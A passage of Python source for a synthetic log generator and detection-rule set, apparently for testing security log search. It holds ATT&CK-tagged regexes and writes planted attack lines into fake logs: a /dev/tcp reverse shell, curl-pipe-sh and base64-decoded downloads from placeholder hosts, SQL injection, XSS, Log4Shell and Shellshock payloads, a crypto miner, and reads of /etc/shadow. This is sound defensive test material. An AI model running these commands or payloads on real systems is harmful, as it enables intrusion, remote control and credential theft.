     r"\"command_line\":\"[^\"]*certutil(?:\.exe)?[^\"]* [-/](?i:urlcache|decode|decodehex)\b",
     '{"@timestamp":"2026-01-03T12:00:00Z","event":{"action":"process_start"},"command_line":"certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe"}',
     '{"@timestamp":"2026-01-03T12:00:00Z","event":{"action":"process_start"},"command_line":"certutil.exe -hashfile a.exe SHA256"}'),
    ("json-lsass-dump", "critical", "LSASS memory dump (procdump, comsvcs MiniDump)", "attack.t1003.001, credential-access",
     r"\"command_line\":\"[^\"]*(?:(?i:procdump)(?:64)?(?:\.exe)?[^\"]* -ma [^\"]*lsass|(?i:comsvcs)(?:\.dll)?[, ]+(?i:minidump))",
     '{"@timestamp":"2026-01-03T12:00:00Z","command_line":"rundll32.exe C:/Windows/System32/comsvcs.dll, MiniDump 624 C:/temp/l.dmp full"}',
     '{"@timestamp":"2026-01-03T12:00:00Z","command_line":"procdump64.exe -ma w3wp.exe"}'),
    ("json-shadow-copy-delete", "critical", "Volume shadow copies deleted", "attack.t1490, impact",
     r"(?i:vssadmin(?:\.exe)?\s+delete\s+shadows|wmic(?:\.exe)?\s+shadowcopy\s+delete)",
     '{"@timestamp":"2026-01-03T12:00:00Z","command_line":"vssadmin.exe delete shadows /all /quiet"}',
     '{"@timestamp":"2026-01-03T12:00:00Z","command_line":"vssadmin.exe list shadows"}'),
    ("base64-blob", "low", "Long base64 blob (no literal: regex screen only)", "attack.t1027, defense-evasion",
     r"\b[A-Za-z0-9+/]{60,}={1,2}",
     '{"@timestamp":"2026-01-03T12:00:00Z","message":"payload=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAACAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdA=="}',
     '{"@timestamp":"2026-01-03T12:00:00Z","message":"sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}'),
    ("win-kerberoast", "high", "Kerberos service ticket with RC4 encryption (4769, 0x17)", "attack.t1558.003, credential-access",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,4769,.*Ticket Encryption Type:\s+0x17\b",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4769,Information,Kerberos Service Ticket Operations,"A Kerberos service ticket was requested. Account Name: bob@CORP.EXAMPLE Service Name: MSSQLSvc Ticket Encryption Type: 0x17"',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4769,Information,Kerberos Service Ticket Operations,"A Kerberos service ticket was requested. Account Name: bob@CORP.EXAMPLE Service Name: MSSQLSvc Ticket Encryption Type: 0x12"'),
    ("win-service-installed", "high", "Service installed (4697)", "attack.t1543.003, persistence",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,4697,.*Service File Name:\s+(?<path>.+?)\s+Service Type:",
     '2026-01-03T12:00:01.123Z,FS01.corp.example,Security,4697,Information,Security System Extension,"A service was installed in the system. Service Name: updsvc Service File Name: C:\\Windows\\Temp\\updsvc.exe Service Type: 0x10"',
     '2026-01-03T12:00:01.123Z,FS01.corp.example,Security,4624,Information,Logon,"An account was successfully logged on. Account Name: alice"'),
    ("win-account-created", "medium", "User account created (4720)", "attack.t1136.002, persistence",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,4720,.*New Account:\s+(?:Security ID:\s+\S+\s+)?Account Name:\s+(?<user>[^\s,\"]+)",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4720,Information,User Account Management,"A user account was created. Subject: Account Name: admin2 New Account: Security ID: CORP\\svc_bkp Account Name: svc_bkp"',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4722,Information,User Account Management,"A user account was enabled. Target Account: Account Name: svc_bkp"'),
]


def to_rg(regex):
    """PCRE2 -> ripgrep's default engine for the rules above. rg joins all -f patterns with '|',
    so the same group name in two rules is a "duplicate capture group name" error there: the
    named groups become non-capturing (matching is unchanged, rg reports whole lines anyway)."""
    return re.sub(r"\(\?<([A-Za-z_][A-Za-z0-9_]*)>", "(?:", regex)


def plain(regex):
    """The raw strings above escape '"' for Python's sake; neither engine needs it."""
    return regex.replace('\\"', '"')


def _ci_char(ch):
    return "[%s%s]" % (ch.lower(), ch.upper()) if ch.isalpha() else None


def to_ere(regex):
    """PCRE subset used by RULES -> POSIX ERE as GNU grep -E reads it (LC_ALL=C).

    \\d and friends become bracket expressions (GNU grep keeps \\s \\S \\w \\W \\b as extensions),
    (?:...) and (?<name>...) become plain groups, (?i:...) spells out both cases of every letter,
    lazy quantifiers become greedy (the same lines match), and escapes inside a class become
    the bare character, since a backslash is literal in a POSIX bracket expression. Raises
    ValueError on anything outside the subset (lookaround, backreferences, \\S in a class...)."""
    out, i, n = [], 0, len(regex)
    ci, stack = False, []
    meta_keep = set(".[()*+?{|^$\\")

    def lit(ch):
        if ci and ch.isalpha():
            return _ci_char(ch)
        if ch in meta_keep:
            return "\\" + ch
        return ch

    def quantifier_tail(j):
        # drop a lazy '?' after a quantifier
        return j + 1 if j < n and regex[j] == "?" else j

    while i < n:
        c = regex[i]
        if c == "\\":
            d = regex[i + 1]
            i += 2
            if d == "d":
                out.append("[0-9]")
            elif d == "D":
                out.append("[^0-9]")
            elif d in "sSwWb":
                out.append("\\" + d)
            elif d.isalnum():
                raise ValueError("unsupported escape \\%s in %r" % (d, regex))
            else:
                out.append(lit(d))
        elif c == "(":
            if regex.startswith("(?:", i):
                i += 3
            elif regex.startswith("(?i:", i):
                i += 4
                stack.append(ci)
                ci = True
                out.append("(")
                continue
            elif regex.startswith("(?<", i) and regex[i + 3] not in "=!":
                i = regex.index(">", i) + 1
            elif regex.startswith("(?", i):
                raise ValueError("unsupported group at %d in %r" % (i, regex))
            else:
                i += 1
            stack.append(ci)
            out.append("(")
        elif c == ")":
            ci = stack.pop()
            out.append(")")
            i += 1
        elif c == "[":
            j = i + 1
            neg = regex[j] == "^"
            if neg:
                j += 1
            items, first = [], True
            while first or regex[j] != "]":
                first = False
                ch = regex[j]
                if ch == "\\":
                    e = regex[j + 1]
                    j += 2
                    if e == "d":
                        items.append("0-9")
                    elif e == "s":
                        items.append("[:space:]")
                    elif e == "w":
                        items.append("[:alnum:]_")
                    elif e.isalnum():
                        raise ValueError("unsupported class escape \\%s in %r" % (e, regex))
                    else:
                        items.append(e)
                    continue
                if j + 2 < n and regex[j + 1] == "-" and regex[j + 2] != "]":
                    lo, hi = ch, regex[j + 2]
                    items.append(lo + "-" + hi)
                    if ci and lo.isalpha() and hi.isalpha():
                        items.append(lo.swapcase() + "-" + hi.swapcase())
                    j += 3
                    continue
                items.append(ch)
                if ci and ch.isalpha():
                    items.append(ch.swapcase())
                j += 1
            i = j + 1
            # POSIX placement: ']' first, '-' last, '^' anywhere but first
            close = "]" in items
            dash = "-" in items
            rest = [x for x in items if x not in ("]", "-")]
            if rest and rest[0] == "^":
                rest = rest[1:] + ["^"]
            body = ("]" if close else "") + "".join(rest) + ("-" if dash else "")
            if body == "^":
                out.append("\\^")
            else:
                out.append("[" + ("^" if neg else "") + body + "]")
        elif c in "*+?":
            out.append(c)
            i = quantifier_tail(i + 1)
        elif c == "{":
            j = regex.index("}", i)
            out.append(regex[i:j + 1])
            i = quantifier_tail(j + 1)
        elif c == "}":
            out.append("}")
            i += 1
        elif c in ".|^$":
            out.append(c)
            i += 1
        else:
            out.append(lit(c))
            i += 1
    if stack:
        raise ValueError("unbalanced group in %r" % regex)
    return "".join(out)


def rand_ip(rng, firsts):
    return "%d.%d.%d.%d" % (rng.choice(firsts), rng.randrange(256), rng.randrange(256),
                            rng.randrange(1, 255))


def defang(ind, kind):
    if kind == "domain":
        return ind.replace(".", "[.]", 1)
    if kind == "email":
        return ind.replace("@", "[@]").replace(".", "[.]")
    if kind == "ipv4":
        a, b = ind.rsplit(".", 1)
        return a + "[.]" + b
    return ind


class Clock:
    """Monotonic log clock with cached per-second formatting."""

    def __init__(self, rng, start):
        self.rng = rng
        self.t = start
        self._sec = None

    def tick(self):
        # ~3 lines per second on average, in bursts
        if self.rng.random() < 0.35:
            self.t += self.rng.randrange(1, 3)
        if self.t != self._sec:
            self._sec = self.t
            tm = time.gmtime(self.t)
            self.c3164 = "%s %2d %02d:%02d:%02d" % (MONTHS[tm.tm_mon - 1], tm.tm_mday, tm.tm_hour,
                                                    tm.tm_min, tm.tm_sec)
            self.iso = "%04d-%02d-%02dT%02d:%02d:%02d" % tm[:6]
            self.clf = "%02d/%s/%04d:%02d:%02d:%02d +0000" % (tm.tm_mday, MONTHS[tm.tm_mon - 1],
                                                             tm.tm_year, tm.tm_hour, tm.tm_min,
                                                             tm.tm_sec)
        return self.t


class Gen:
    def __init__(self, rng, iocs_present, stats, intl=0.0, intl_seed=0):
        self.rng = rng
        # A second generator decides the UTF-8 fields, so --intl 0 leaves every other draw, and
        # the corpus, exactly as before the option existed.
        self.irng = random.Random(intl_seed)
        self.intl = intl
        self.bg_ips = [rand_ip(rng, BG_FIRST_OCTETS) for _ in range(4000)]
        self.lan_ips = ["10.0.%d.%d" % (rng.randrange(8), rng.randrange(2, 250)) for _ in range(200)]
        self.p = iocs_present  # dict kind -> list of present indicators
        self.stats = stats
        # rates are per background line; chosen so that a 100 MB corpus gets a few thousand
        # indicator sightings and ~1-3% of lines hit a rule
        self.sight = 0.0025

    def user(self, ascii_name):
        """ascii_name, or (in a share --intl of the calls) a name in UTF-8."""
        if self.intl and self.irng.random() < self.intl:
            self.bump("intl.lines")
            return self.irng.choice(INTL_USERS)
        return ascii_name

    def message(self, ascii_msg):
        if self.intl and self.irng.random() < self.intl:
            self.bump("intl.lines")
            return self.irng.choice(INTL_MSGS)
        return ascii_msg

    def bump(self, key, n=1):
        self.stats[key] = self.stats.get(key, 0) + n

    def ioc_ip(self):
        self.bump("sightings.ipv4")
        return self.rng.choice(self.p["ipv4"])

    def blob(self):
        """A base64 blob of 60-120 characters that ends in '=' or '==' (rule base64-blob)."""
        n = self.rng.choice([k for k in range(46, 90) if k % 3])
        self.bump("planted.base64-blob")
        return base64.b64encode(self.rng.getrandbits(8 * n).to_bytes(n, "big")).decode()

    # -- RFC 3164 auth.log
    def auth(self, c):
        r = self.rng
        c.tick()
        h = r.choice(HOSTS)
        pid = r.randrange(1000, 65000)
        x = r.random()
        ts = c.c3164
        if x < self.sight:
            ip = self.ioc_ip()
            u = r.choice(BRUTE_USERS)
            return "%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2" % (
                ts, h, pid, u, ip, r.randrange(1024, 65535))
        if x < 0.10:
            ip = r.choice(self.bg_ips)
            u = r.choice(BRUTE_USERS)
            if r.random() < 0.5:
                return "%s %s sshd[%d]: Failed password for %s from %s port %d ssh2" % (
                    ts, h, pid, u, ip, r.randrange(1024, 65535))
            return "%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2" % (
                ts, h, pid, u, ip, r.randrange(1024, 65535))
        if x < 0.14:
            return "%s %s sshd[%d]: Invalid user %s from %s port %d" % (
                ts, h, pid, r.choice(BRUTE_USERS), r.choice(self.bg_ips), r.randrange(1024, 65535))
        if x < 0.30:
            return "%s %s sshd[%d]: Connection closed by %s port %d [preauth]" % (
                ts, h, pid, r.choice(self.bg_ips), r.randrange(1024, 65535))
        if x < 0.40:
            return "%s %s sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (
                ts, h, pid, r.choice(USERS), r.choice(self.lan_ips), r.randrange(1024, 65535),
                "%032x" % r.getrandbits(128))
        if x < 0.60:
            u = r.choice(USERS)
            return "%s %s sshd[%d]: pam_unix(sshd:session): session %s for user %s%s" % (
                ts, h, pid, r.choice(("opened", "closed")), u,
                "(uid=%d) by (uid=0)" % r.randrange(1000, 1010) if r.random() < 0.5 else "")
        if x < 0.70:
            u = r.choice(USERS)
            return "%s %s sudo:   %s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
                ts, h, u, r.randrange(5), u, r.choice(SUDO_CMDS))
        if x < 0.7015:
            self.bump("planted.sudo-root-shell")
            return "%s %s sudo:   %s : TTY=pts/%d ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash" % (
                ts, h, r.choice(("deploy", "www-data")), r.randrange(5))
        if x < 0.7025:
            self.bump("planted.sudo-auth-failure")
            return "%s %s sudo:   www-data : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash" % (ts, h)
        if x < 0.7027:
            self.bump("planted.new-local-user")
            return "%s %s useradd[%d]: new user: name=sysupd%d, UID=%d, GID=%d, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0" % (
                ts, h, pid, r.randrange(9), 1005, 1005)
        if x < 0.7030:
            self.bump("planted.ssh-root-login-accepted")
            return "%s %s sshd[%d]: Accepted password for root from %s port %d ssh2" % (
                ts, h, pid, self.ioc_ip() if r.random() < 0.5 else r.choice(self.bg_ips),
                r.randrange(1024, 65535))
        if x < 0.7035:
            self.bump("planted.ssh-max-auth-exceeded")
            return "%s %s sshd[%d]: error: maximum authentication attempts exceeded for %s%s from %s port %d ssh2 [preauth]" % (
                ts, h, pid, r.choice(("", "invalid user ")), r.choice(BRUTE_USERS), r.choice(self.bg_ips),
                r.randrange(1024, 65535))
        if x < 0.7038:
            self.bump("planted.su-root-session")
            u = r.choice(("deploy", "carol", "www-data"))
            return "%s %s su[%d]: pam_unix(su-l:session): session opened for user root(uid=0) by %s(uid=%d)" % (
                ts, h, pid, u, r.randrange(1000, 1010))
        if x < 0.7039:
            self.bump("planted.usermod-priv-group")
            return "%s %s usermod[%d]: add 'sysupd%d' to group '%s'" % (
                ts, h, pid, r.randrange(9), r.choice(("sudo", "docker", "adm")))
        if x < 0.7040:
            self.bump("planted.sudo-sensitive-file")
            return "%s %s sudo:   www-data : TTY=pts/%d ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat %s" % (
                ts, h, r.randrange(5), r.choice(("/etc/shadow", "/etc/sudoers", "/root/.ssh/id_rsa")))
        if x < 0.72:
            u = r.choice(USERS)
            return "%s %s su[%d]: pam_unix(su:session): session %s for user %s(uid=%d) by %s(uid=%d)" % (
                ts, h, pid, r.choice(("opened", "closed")), r.choice(("postgres", "backup", "www-data")),
                r.randrange(100, 200), u, r.randrange(1000, 1010))
        if x < 0.85:
            return "%s %s systemd-logind[%d]: %s session %d of user %s." % (
                ts, h, r.randrange(400, 900), r.choice(("New", "Removed")), r.randrange(1, 99999),
                r.choice(USERS))
        return "%s %s CRON[%d]: pam_unix(cron:session): session %s for user root" % (
            ts, h, pid, r.choice(("opened", "closed")))

    # -- RFC 3164 syslog
    def syslog(self, c):
        r = self.rng
        c.tick()
        h = r.choice(HOSTS)
        ts = c.c3164
        x = r.random()
        if x < self.sight * 0.5:
            self.bump("sightings.domain")
            d = r.choice(self.p["domain"])
            return "%s %s dnsmasq[%d]: query[A] %s from %s" % (ts, h, r.randrange(300, 900), d,
                                                               r.choice(self.lan_ips))
        if x < 0.0014:
            self.bump("planted.download-pipe-shell")
            self.bump("sightings.domain")
            d = r.choice(self.p["domain"])
            return "%s %s CRON[%d]: (root) CMD (curl -fsSL http://%s/x.sh | sh >/dev/null 2>&1)" % (
                ts, h, r.randrange(1000, 65000), d)
        if x < 0.0015:
            self.bump("planted.reverse-shell-devtcp")
            self.bump("sightings.ipv4")
            return "%s %s CRON[%d]: (www-data) CMD (bash -i >& /dev/tcp/%s/4444 0>&1)" % (
                ts, h, r.randrange(1000, 65000), r.choice(self.p["ipv4"]))
        if x < 0.0018:
            self.bump("planted.ufw-block-backdoor-port")
            return "%s %s kernel: [%d.%06d] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=%s DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0" % (
                ts, h, r.randrange(100000), r.randrange(1000000), r.choice(self.bg_ips),
                r.randrange(30, 250), r.randrange(65535), r.randrange(1024, 65535), r.choice((4444, 31337, 6667)))
        if x < 0.0020:
            self.bump("planted.cron-tmp-exec")
            return "%s %s CRON[%d]: (www-data) CMD (%s)" % (ts, h, r.randrange(1000, 65000), r.choice((
                "/dev/shm/.x/kworker -c /dev/shm/.x/config.json", "/tmp/.ICE-unix/.s/upd >/dev/null 2>&1",
                "/var/tmp/.cache/sshd -D")))
        if x < 0.0022:
            self.bump("planted.base64-pipe-shell")
            return "%s %s CRON[%d]: (www-data) CMD (echo Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | bash)" % (
                ts, h, r.randrange(1000, 65000))
        if x < 0.0024:
            self.bump("planted.systemd-unit-enabled")
            u = r.choice(("dbus-helper", "kworker-sync", "network-check"))
            return "%s %s systemd[1]: Created symlink /etc/systemd/system/multi-user.target.wants/%s.service \u2192 /etc/systemd/system/%s.service." % (
                ts, h, u, u)
        if x < 0.0027:
            self.bump("planted.dns-long-label")
            return "%s %s dnsmasq[%d]: query[%s] %032x%08x.t.tunnel-dns.example from %s" % (
                ts, h, r.randrange(300, 900), r.choice(("TXT", "A")), r.getrandbits(128), r.getrandbits(32),
                r.choice(self.lan_ips))
        if x < 0.0047:
            self.bump("planted.postfix-sasl-failure")
            return "%s mail1 postfix/smtpd[%d]: warning: unknown[%s]: SASL %s authentication failed: UGFzc3dvcmQ6" % (
                ts, r.randrange(1000, 65000), r.choice(self.bg_ips), r.choice(("LOGIN", "PLAIN")))
        if x < 0.0049:
            self.bump("planted.crypto-miner")
            self.bump("planted.cron-tmp-exec")
            return "%s %s CRON[%d]: (www-data) CMD (/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.example:4444 --donate-level 1 -B)" % (
                ts, h, r.randrange(1000, 65000))
        if x < 0.25:
            return "%s %s kernel: [%d.%06d] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=%s DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0" % (
                ts, h, r.randrange(100000), r.randrange(1000000), r.choice(self.bg_ips),
                r.randrange(30, 250), r.randrange(65535), r.randrange(1024, 65535),
                r.choice((22, 23, 80, 443, 3389, 5900, 8080)))
        if x < 0.45:
            return "%s %s CRON[%d]: (root) CMD (%s)" % (ts, h, r.randrange(1000, 65000), r.choice((
                "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
                "/usr/local/bin/backup.sh --incremental", "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean")))
        if x < 0.62:
            return "%s %s dnsmasq[%d]: query[%s] %s from %s" % (
                ts, h, r.randrange(300, 900), r.choice(("A", "A", "AAAA")), r.choice((
                    "api.github.com", "deb.debian.org", "security.debian.org", "ntp.ubuntu.com",
                    "registry.npmjs.org", "pypi.org", "s3.amazonaws.com")), r.choice(self.lan_ips))
        if x < 0.70:
            return "%s %s systemd[1]: %s" % (ts, h, r.choice((
                "Started Session %d of User deploy." % r.randrange(99999),
                "Starting Daily apt download activities...", "logrotate.service: Deactivated successfully.",
                "Finished Rotate log files.", "Started Run anacron jobs.", "phpsessionclean.service: Deactivated successfully.")))
        if x < 0.90:
            return "%s %s postfix/smtpd[%d]: connect from unknown[%s]" % (
                ts, h, r.randrange(1000, 65000), r.choice(self.bg_ips))
        if x < 0.9005:
            self.bump("sightings.email")
            return "%s mail1 postfix/smtpd[%d]: NOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 <%s>: Relay access denied; from=<%s> to=<ops@example.com> proto=ESMTP helo=<mx>" % (
                ts, r.randrange(1000, 65000), r.choice(self.bg_ips), "ops@example.com",
                r.choice(self.p["email"]))
        return "%s %s rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%d\"] rsyslogd was HUPed" % (
            ts, h, r.randrange(300, 900))

    # -- RFC 5424
    def r5424(self, c):
        r = self.rng
        c.tick()
        svc = r.choice(SERVICES)
        mid = r.choice(MSGIDS)
        frac = r.randrange(1000)
        x = r.random()
        if x < 0.0008:
            self.bump("planted.app-auth-lockout")
            return '<38>1 %s.%03dZ web1 auth-gw %d AUTH [meta@32473 user="%s" src="%s"] account locked after %d failed attempts' % (
                c.iso, frac, r.randrange(1000, 9999), r.choice(USERS), r.choice(self.bg_ips), r.randrange(5, 12))
        if x < 0.0008 + self.sight * 0.3:
            self.bump("sightings.sha256")
            return '<14>1 %s.%03dZ web1 %s %d UPLOAD [file@32473 sha256="%s" size="%d"] upload scanned' % (
                c.iso, frac, svc, r.randrange(1000, 9999), r.choice(self.p["sha256"]), r.randrange(1000, 10**7))
        if x < 0.0018:
            self.bump("planted.app-role-escalation")
            return '<37>1 %s.%03dZ web1 auth-gw %d AUTH [meta@32473 user="%s" src="%s"] role changed from viewer to %s' % (
                c.iso, frac, r.randrange(1000, 9999), r.choice(USERS), r.choice(self.lan_ips), r.choice(("admin", "owner")))
        if x < 0.0021:
            self.bump("planted.card-number-in-log")
            return '<11>1 %s.%03dZ web1 payment-svc %d PAY [req@32473 id="%08x" user="%s" ms="%d"] charge failed for card 4%03d %04d %04d %04d exp %02d/%02d' % (
                c.iso, frac, r.randrange(1000, 9999), r.getrandbits(32), r.choice(USERS), r.randrange(1, 2000),
                r.randrange(1000), r.randrange(10000), r.randrange(10000), r.randrange(10000), r.randrange(1, 13), r.randrange(26, 31))
        if x < 0.0024:
            self.bump("planted.app-sql-error")
            return '<11>1 %s.%03dZ web1 order-svc %d ORDER [req@32473 id="%08x" user="-" ms="%d"] query failed: %s' % (
                c.iso, frac, r.randrange(1000, 9999), r.getrandbits(32), r.randrange(1, 50), r.choice((
                    'SQLSTATE[42601]: syntax error at or near "UNION"',
                    "You have an error in your SQL syntax; check the manual near '\\'' at line 1")))
        if x < 0.0027:
            self.bump("planted.app-upload-executable")
            return '<14>1 %s.%03dZ web1 inventory %d UPLOAD [file@32473 name="%s" size="%d"] upload scanned' % (
                c.iso, frac, r.randrange(1000, 9999), r.choice(("invoice.pdf.exe", "update.ps1", "report.hta")),
                r.randrange(1000, 10**6))
        if x < 0.0127:
            return '<14>1 %s.%03dZ web1 inventory %d UPLOAD [file@32473 name="%s" size="%d"] upload scanned' % (
                c.iso, frac, r.randrange(1000, 9999), r.choice(("invoice-%d.pdf", "IMG_%d.jpg", "scan%d.png")) % r.randrange(10000),
                r.randrange(1000, 10**7))
        return '<%d>1 %s.%03dZ %s %s %d %s [req@32473 id="%08x" user="%s" ms="%d"] %s' % (
            r.choice((14, 15, 30, 38, 134)), c.iso, frac, r.choice(HOSTS), svc, r.randrange(1000, 9999),
            mid, r.getrandbits(32), self.user(r.choice(USERS)), r.randrange(1, 2000), r.choice((
                "request completed", "cache miss for key product:%d" % r.randrange(10**6),
                "order %d state=PAID" % r.randrange(10**7), "upstream latency above threshold",
                "login ok", "token refreshed", "retrying after 503 from upstream")))

    # -- NCSA combined (nginx / apache)
    def access(self, c):
        r = self.rng
        c.tick()
        x = r.random()
        ua = r.choice(UAS)
        ref = r.choice(REFERERS)
        st = r.choice((200, 200, 200, 200, 304, 301, 404, 200, 500))
        method = "GET" if r.random() < 0.9 else "POST"
        path = r.choice(PATHS)
        if "%d" in path:
            path = path % r.randrange(1, 100000)
        ip = r.choice(self.bg_ips) if r.random() < 0.8 else r.choice(self.lan_ips)
        if x < self.sight:
            ip = self.ioc_ip()
        elif x < 0.0045:
            ua = r.choice(SCANNER_UAS)
            self.bump("planted.web-scanner-ua")
            y = r.random()
            if y < 0.15:
                path = r.choice(("/.env", "/.git/config", "/backup/.env", "/.aws/credentials", "/wp-config.php.bak"))
                st = 404
            elif y < 0.30:
                path = "/download?file=" + r.choice(("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "%2e%2e%2f%2e%2e%2fwin.ini"))
                st = 400
            elif y < 0.45:
                path = "/products.php?id=%d%s" % (r.randrange(100), r.choice((
                    "%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cversion()--", "%27%20OR%20%271%27%3D%271",
                    "%20AND%20SLEEP(5)", "+union+select+1,2,3")))
            elif y < 0.52:
                self.bump("planted.web-xss")
                path = "/search?q=%s" % r.choice(("%3Cscript%3Ealert(document.domain)%3C/script%3E",
                                                  "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "javascript:alert(1)"))
            elif y < 0.59:
                self.bump("planted.web-cmd-injection")
                path = "/cgi-bin/ping.cgi?host=127.0.0.1%s" % r.choice(("%3Bwhoami", ";id", "%7Ccat%20/etc/passwd",
                                                                        "%60uname%20-a%60"))
            elif y < 0.64:
                self.bump("planted.web-rfi")
                path = "/index.php?page=http://198.51.100.%d/%s?" % (r.randrange(1, 255), r.choice(("shell.txt", "c.php", "x.jpg")))
            elif y < 0.69:
                self.bump("planted.web-php-wrapper")
                path = "/index.php?page=%s" % r.choice(("php://filter/convert.base64-encode/resource=index.php",
                                                         "php://input", "expect://id"))
            elif y < 0.84:
                self.bump("planted.web-admin-panel-probe")
                path = r.choice(("/phpmyadmin/index.php", "/pma/", "/manager/html", "/actuator/env", "/server-status",
                                 "/adminer.php", "/solr/admin/cores"))
                st = 404
        elif x < 0.0047:
            self.bump("planted.web-webshell-access")
            path = "/wp-content/uploads/2025/11/%s.php?c=id" % r.choice(("wso", "c99", "shell"))
            method, st = "POST", 200
            ip = self.ioc_ip()
        elif x < 0.00475:
            self.bump("planted.web-log4shell")
            ua = "${jndi:ldap://%s:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}" % r.choice(self.p["ipv4"])
            self.bump("sightings.ipv4")
        elif x < 0.0048 and self.p["domain"]:
            self.bump("sightings.domain")
            ref = "http://%s/landing?id=%d" % (r.choice(self.p["domain"]), r.randrange(1000))
        elif x < 0.00485:
            self.bump("planted.web-shellshock")
            path, ua = "/cgi-bin/status", "() { :; }; echo; /bin/bash -c 'id'"
        elif x < 0.00585:
            self.bump("planted.web-wp-login-post")
            method, path, st = "POST", r.choice(("/wp-login.php", "/xmlrpc.php")), r.choice((200, 200, 200, 302))
            ip = r.choice(self.bg_ips)
        elif x < 0.0059:
            method, path, st = "POST", "/api/v1/telemetry?d=" + self.blob(), 204
        return '%s - %s [%s] "%s %s HTTP/%s" %d %d "%s" "%s"' % (
            ip, "-" if r.random() < 0.95 else r.choice(USERS), c.clf, method, path,
            r.choice(("1.1", "2.0")), st, r.randrange(100, 60000), ref, ua)

    # -- JSON lines (EDR / app events)
    def jsonl(self, c):
        r = self.rng
        c.tick()
        x = r.random()
        ts = "%s.%03dZ" % (c.iso, r.randrange(1000))
        host = r.choice(("WS-0142", "WS-0877", "LAPTOP-7QX", "SRV-FILE01", "web1"))
        if x < 0.35:
            img = r.choice(("C:\\\\Windows\\\\System32\\\\svchost.exe", "C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe",
                            "C:\\\\Windows\\\\explorer.exe", "/usr/bin/python3", "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe"))
            cmd = img
            h = "%064x" % r.getrandbits(256)
            if x < self.sight * 0.4:
                h = r.choice(self.p["sha256"])
                self.bump("sightings.sha256")
            elif x < 0.0012:
                cmd = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
                self.bump("planted.json-encoded-powershell")
            elif x < 0.0015:
                cmd = "certutil.exe -urlcache -split -f http://198.51.100.%d/invoice.exe C:\\\\Users\\\\Public\\\\invoice.exe" % r.randrange(1, 255)
                self.bump("planted.json-certutil-download")
            elif x < 0.0017:
                cmd = "/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5kSiGBoZ --donate-level 1"
                self.bump("planted.crypto-miner")
            return ('{"@timestamp":"%s","host":{"name":"%s"},"event":{"kind":"event","action":"process_start"},'
                    '"process":{"pid":%d,"executable":"%s","hash":{"sha256":"%s"}},"command_line":"%s","user":{"name":"%s"}}') % (
                ts, host, r.randrange(100, 30000), img, h, cmd, self.user(r.choice(USERS)))
        if x < 0.65:
            dst = r.choice(self.bg_ips)
            dom = r.choice(("api.github.com", "update.googleapis.com", "login.microsoftonline.com",
                            "cdn.jsdelivr.net", "registry.npmjs.org", "s3.amazonaws.com"))
            if x < 0.35 + self.sight:
                dst = self.ioc_ip()
            elif x < 0.35 + self.sight * 1.4:
                dom = r.choice(self.p["domain"])
                self.bump("sightings.domain")
            return ('{"@timestamp":"%s","host":{"name":"%s"},"event":{"kind":"event","action":"connection"},'
                    '"destination":{"ip":"%s","port":%d,"domain":"%s"},"network":{"bytes":%d},"process":{"name":"%s"}}') % (
                ts, host, dst, r.choice((443, 80, 53, 8443)), dom, r.randrange(60, 10**6),
                r.choice(("chrome.exe", "svchost.exe", "curl", "python3", "OneDrive.exe")))
        if x > 0.9995:
            return ('{"@timestamp":"%s","log":{"level":"warn"},"service":{"name":"%s"},"message":"unexpected payload=%s","trace":{"id":"%032x"}}') % (
                ts, r.choice(SERVICES), self.blob(), r.getrandbits(128))
        return ('{"@timestamp":"%s","log":{"level":"%s"},"service":{"name":"%s"},"message":"%s","trace":{"id":"%032x"}}') % (
            ts, r.choice(("info", "info", "warn", "error", "debug")), r.choice(SERVICES), self.message(r.choice((
                "order created", "payment authorized", "payment declined: insufficient funds",
                "inventory reserved", "cache warmup finished", "slow query: 1532 ms",
